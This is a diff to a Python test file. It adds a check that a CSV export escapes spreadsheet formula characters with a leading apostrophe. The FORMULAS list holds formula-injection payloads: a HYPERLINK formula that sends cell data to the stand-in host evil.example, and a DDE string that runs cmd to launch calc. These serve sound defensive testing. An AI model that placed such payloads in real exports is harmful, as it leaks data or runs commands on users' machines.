@@ -8,7 +8,7 @@ import os
 import stat
 import tracemalloc
 from collections.abc import Iterator
-from datetime import UTC, date, datetime
+from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -144,6 +144,48 @@ def test_export_responses_csv(env: str, capsys: pytest.CaptureFixture[str]) -> N
     assert rows[0]["account"] == "Acme Corp" and rows[0]["person"] == "U0SAM0001"
     assert rows[0]["iso_week"] == "2000-W01" and rows[0]["revision"] == "1"
     assert rows[0]["advocacy"] == 'Opened doors, "quoted", and, commas'
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_export_responses_keeps_spreadsheets_from_running_formulas(
+    env: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    engine = db.make_engine(env)
+    with db.session_factory(engine)() as session:
+        load_portfolio(session)
+        session.scalars(select(Account).where(Account.name == "Acme Corp")).one().name = "@Acme"
+        for week, formula in enumerate(FORMULAS):
+            checkin = add_checkin(
+                session,
+                account="@Acme",
+                user="U0SAM0001",
+                role="sam",
+                period=date(2026, 11, 2) + timedelta(weeks=week),
+                answers=[(4, 3, 5, 2, 1)],
+            )
+            answer = session.scalars(select(Answer).where(Answer.checkin_id == checkin)).one()
+            answer.note, answer.advocacy = formula, "Met the CFO - twice = progress"
+        session.commit()
+    engine.dispose()
+
+    status, out, _ = run(capsys, "export", "responses")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert status == 0
+    assert [row["note"] for row in rows] == [f"'{formula}" for formula in FORMULAS]
+    assert {row["account"] for row in rows} == {"'@Acme"}
+    # text that only contains such a character, and numbers, are left as they are
+    assert {row["advocacy"] for row in rows} == {"Met the CFO - twice = progress"}
+    assert {row["person"] for row in rows} == {"U0SAM0001"}
+    assert {(row["stakeholder_engagement"], row["role_balance"]) for row in rows} == {("4", "1")}
 
 
 def test_export_of_100000_rows_runs_in_bounded_memory(tmp_path: Path) -> None:
